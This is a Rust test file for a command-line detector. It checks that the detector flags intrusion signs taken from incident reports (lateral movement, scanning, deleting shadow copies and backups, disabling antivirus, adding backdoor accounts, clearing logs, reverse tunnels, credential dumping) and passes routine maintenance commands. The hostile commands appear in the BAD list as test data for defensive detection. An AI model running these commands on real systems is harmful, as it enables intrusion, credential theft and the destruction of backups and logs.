use proptest::prelude::*;

use super::Sign::*;
use super::*;

/// What the reports of the three incidents and of others name, as it is typed.
const BAD: &[(Sign, &str)] = &[
    (SecondHop, "ssh root@10.1.2.3"),
    (
        SecondHop,
        "sudo -u maint ssh -i key 192.168.1.10 'uname -a'",
    ),
    (SecondHop, "scp /tmp/x.tgz admin@ehr-db:/tmp/"),
    (SecondHop, "rsync -a /srv/ backup01:/srv/"),
    (SecondHop, "mstsc /v:192.168.10.20"),
    (SecondHop, "C:\\Tools\\PsExec64.exe \\\\AD01 -s cmd"),
    (
        SecondHop,
        "wmic /node:\"192.168.1.5\" process call create \"cmd.exe\"",
    ),
    (
        SecondHop,
        "net use Z: \\\\ehr-ap\\C$ /user:administrator P@ssw0rd",
    ),
    (SecondHop, "Enter-PSSession -ComputerName ad01"),
    (
        SecondHop,
        "Invoke-Command -ComputerName ad01 -ScriptBlock { hostname }",
    ),
    (SecondHop, "smbclient //nas/share -U admin"),
    (SecondHop, "mount -t cifs //nas/c$ /mnt"),
    (SecondHop, "mount nas:/export /mnt"),
    (SecondHop, "bash -c 'ssh esx01 esxcli vm process list'"),
    (SecondHop, "telnet 10.0.0.9 23"),
    (
        SecondHop,
        "schtasks /create /s dc01 /tn x /tr c:\\x.exe /sc once /st 00:00",
    ),
    (Sweep, "nmap -sS 192.168.0.0/16"),
    (Sweep, "cd /tmp && ./masscan 10.0.0.0/8 -p445"),
    (Sweep, "netscan.exe /hide /auto:result.xml"),
    (
        Sweep,
        "for i in $(seq 1 254); do ping -c1 192.168.1.$i; done",
    ),
    (
        Sweep,
        "1..254 | % { Test-Connection 192.168.1.$_ -Count 1 }",
    ),
    (Sweep, "for /L %i in (1,1,254) do ping -n 1 192.168.1.%i"),
    (Sweep, "nc -zv 10.0.0.5 1-1024"),
    (
        Sweep,
        "for p in $(seq 1 1024); do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null; done",
    ),
    (Sweep, "net view /domain"),
    (Sweep, "nltest /dclist:hosp"),
    (BackupsDeleted, "vssadmin delete shadows /all /quiet"),
    (
        BackupsDeleted,
        "vssadmin.exe Resize ShadowStorage /For=C: /On=C: /MaxSize=401MB",
    ),
    (BackupsDeleted, "wmic shadowcopy delete /nointeractive"),
    (BackupsDeleted, "wbadmin delete catalog -quiet"),
    (BackupsDeleted, "bcdedit /set {default} recoveryenabled no"),
    (
        BackupsDeleted,
        "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }",
    ),
    (BackupsDeleted, "cmd.exe /c vssadmin delete shadows /all"),
    (BackupFilesRemoved, "rm -rf /mnt/backup/2024-05"),
    (BackupFilesRemoved, "rm /srv/backups/*.dump"),
    (BackupFilesRemoved, "del /f /q D:\\バックアップ\\*.*"),
    (BackupFilesRemoved, "Remove-Item -Recurse E:\\Backup"),
    (BackupFilesRemoved, "zfs destroy tank/ehr@daily"),
    (
        BackupFilesRemoved,
        "restic -r /srv/r forget --keep-last 0 --prune",
    ),
    (BackupFilesRemoved, "del *.vbk"),
    (SecurityStopped, "net stop WinDefend"),
    (SecurityStopped, "sc config windefend start= disabled"),
    (
        SecurityStopped,
        "Set-MpPreference -DisableRealtimeMonitoring $true",
    ),
    (SecurityStopped, "Add-MpPreference -ExclusionPath C:\\"),
    (SecurityStopped, "taskkill /f /im ntrtscan.exe"),
    (
        SecurityStopped,
        "netsh advfirewall set allprofiles state off",
    ),
    (
        SecurityStopped,
        "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
    ),
    (SecurityStopped, "systemctl stop clamav-daemon"),
    (SecurityStopped, "sudo apt-get -y purge falcon-sensor"),
    (SecurityStopped, "setenforce 0"),
    (SecurityStopped, "iptables -F"),
    (
        SecurityStopped,
        "wmic product where \"name like '%OfficeScan%'\" call uninstall",
    ),
    (AccountAdded, "net user support P@ssw0rd1 /add"),
    (AccountAdded, "net localgroup Administrators support /add"),
    (
        AccountAdded,
        "net group \"Domain Admins\" support /add /domain",
    ),
    (AccountAdded, "New-LocalUser -Name x"),
    (AccountAdded, "useradd -m -s /bin/bash svc"),
    (AccountAdded, "usermod -aG sudo svc"),
    (
        AccountAdded,
        "echo 'svc ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    ),
    (
        AccountAdded,
        "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
    ),
    (AccountAdded, "echo x | sudo tee -a ~/.ssh/authorized_keys"),
    (LogCleared, "wevtutil cl Security"),
    (LogCleared, "Clear-EventLog -LogName System"),
    (LogCleared, "history -c"),
    (LogCleared, "unset HISTFILE"),
    (LogCleared, "export HISTFILE=/dev/null"),
    (LogCleared, "HISTSIZE=0"),
    (LogCleared, "> /var/log/auth.log"),
    (LogCleared, "cat /dev/null > /var/log/wtmp"),
    (LogCleared, "rm -f /var/log/secure*"),
    (LogCleared, "shred -u ~/.bash_history"),
    (LogCleared, "journalctl --rotate --vacuum-time=1s"),
    (LogCleared, "systemctl stop rsyslog"),
    (LogCleared, "clear logging"),
    (RemoteTool, "AnyDesk.exe --install C:\\AnyDesk --silent"),
    (
        RemoteTool,
        "curl -o a.exe https://download.anydesk.com/AnyDesk.exe",
    ),
    (RemoteTool, "msiexec /i ScreenConnect.ClientSetup.msi /qn"),
    (RemoteTool, "ngrok tcp 3389"),
    (RemoteTool, "./chisel client 1.2.3.4:80 R:socks"),
    (RemoteTool, "ssh -N -R 2222:localhost:22 u@1.2.3.4"),
    (
        CredentialsDumped,
        "mimikatz \"sekurlsa::logonpasswords\" exit",
    ),
    (CredentialsDumped, "procdump64.exe -ma lsass.exe l.dmp"),
    (
        CredentialsDumped,
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l.dmp full",
    ),
    (CredentialsDumped, "reg save HKLM\\SAM sam.hiv"),
    (
        CredentialsDumped,
        "ntdsutil \"ac i ntds\" ifm \"create full c:\\t\" q q",
    ),
    (
        CredentialsDumped,
        "reg.exe export HKEY_LOCAL_MACHINE\\SECURITY s.reg",
    ),
    (CredentialsDumped, "sudo cat /etc/shadow"),
    (
        CredentialsDumped,
        "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit c:\\t",
    ),
];

/// A day of honest maintenance.
const GOOD: &[&str] = &[
    "",
    "ls -la /mnt/backup",
    "df -h; free -m",
    "tail -n 200 /var/log/messages",
    "grep -i error /var/log/orca/*.log | less",
    "journalctl -u postgresql --since today",
    "systemctl restart jma-receipt",
    "systemctl status clamav-daemon",
    "sudo systemctl stop postgresql",
    "pg_dump -Fc orca > /mnt/backup/orca-20241101.dump",
    "psql -h localhost orca -c 'select count(*) from tbl_ptinf'",
    "cp -p app.conf app.conf.bak",
    "rm /tmp/install.log",
    "rm -rf /tmp/work",
    "rm /etc/httpd/conf/httpd.conf.bak",
    "rm -rf /srv/bakery/old",
    "lvremove -f vg0/before_patch",
    "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\ORCA orca.reg",
    "reg query HKLM\\SYSTEM",
    "cmdkey /list",
    "for s in postgresql nginx; do echo stopping $s; systemctl stop $s; done",
    "for h in ehr-ap ehr-db; do ping -c1 $h; done",
    "while true; do ping -c 1 192.168.10.1; sleep 5; done",
    "nmap -p 5432 localhost",
    "taskkill /pid 4711 /f /reset=1",
    "sc config spooler start= demand reset= 0",
    "pkill -f reset_counter",
    "ping -c 4 192.168.10.1",
    "ssh -V",
    "man nmap",
    "echo 'do not run vssadmin delete shadows'",
    "grep -r mimikatz /opt/docs",
    "which anydesk",
    "ps aux | grep teamviewer",
    "net stop \"ORCA Service\"",
    "net start WinDefend",
    "net use",
    "net use Z: /delete",
    "net user",
    "sc query windefend",
    "Get-MpComputerStatus",
    "Set-Service -Name Spooler -StartupType Automatic",
    "Restart-Service -Name PrintSpooler",
    "vssadmin list shadows",
    "wbadmin get versions",
    "wevtutil qe System /c:20 /rd:true /f:text",
    "Get-EventLog -LogName System -Newest 50",
    "id maint; groups maint",
    "passwd --status maint",
    "history | tail",
    "clear",
    "vim /etc/my.cnf",
    "tar czf /srv/maint/logs.tgz /var/log/app",
    "mysqldump --single-transaction ehr | gzip > ehr.sql.gz",
    "copy C:\\app\\app.ini C:\\app\\app.ini.20241101",
    "xcopy C:\\patch D:\\app /E /Y",
    "robocopy C:\\patch D:\\app",
    "ipconfig /all",
    "tasklist /s",
    "iptables -L -n",
    "nft list ruleset",
    "show running-config",
    "show logging",
    "write memory",
    "mount | grep nas",
    "mount /dev/sdb1 /mnt",
    "for f in *.log; do gzip \"$f\"; done",
    "python3 manage.py migrate",
    "apt-get update && apt-get -y upgrade",
    "rsync -a /opt/app/ /opt/app.old/",
    "nc -zv localhost 5432",
    "curl -fsS http://localhost:8000/health",
    "dpkg -l | grep clamav",
];

#[test]
fn what_the_incident_reports_name_is_known_for_what_it_is() {
    for (sign, line) in BAD {
        assert!(signs(line).contains(sign), "{line:?}: {:?}", signs(line));
    }
}

#[test]
fn a_day_of_honest_maintenance_is_a_sign_of_nothing() {
    for line in GOOD {
        assert_eq!(signs(line), [], "{line:?}");
    }
}

#[test]
fn every_sign_is_known_by_something() {
    for sign in Sign::ALL {
        assert!(BAD.iter().any(|(known, _)| *known == sign), "{sign:?}");
    }
}

#[test]
fn a_command_inside_a_command_inside_a_command_is_seen_and_the_depth_ends() {
    assert_eq!(
        signs("sudo sh -c \"bash -c 'vssadmin delete shadows'\""),
        [BackupsDeleted]
    );
    let deep = (0..40).fold("nmap 10.0.0.0/8".to_owned(), |line, _| {
        format!("eval {line}")
    });
    let _ends = signs(&deep);
}

proptest! {
    #[test]
    fn whatever_is_typed_is_looked_at_without_harm(line in "\\PC{0,400}") {
        let found = signs(&line);
        prop_assert!(found.windows(2).all(|pair| pair[0] < pair[1]));
    }

    #[test]
    fn what_stands_around_it_hides_no_command(before in "[a-z ]{0,20}", after in "[a-z ]{0,20}") {
        let line = format!("echo {before}; vssadmin delete shadows /all && echo {after}");
        prop_assert!(signs(&line).contains(&BackupsDeleted));
    }
}
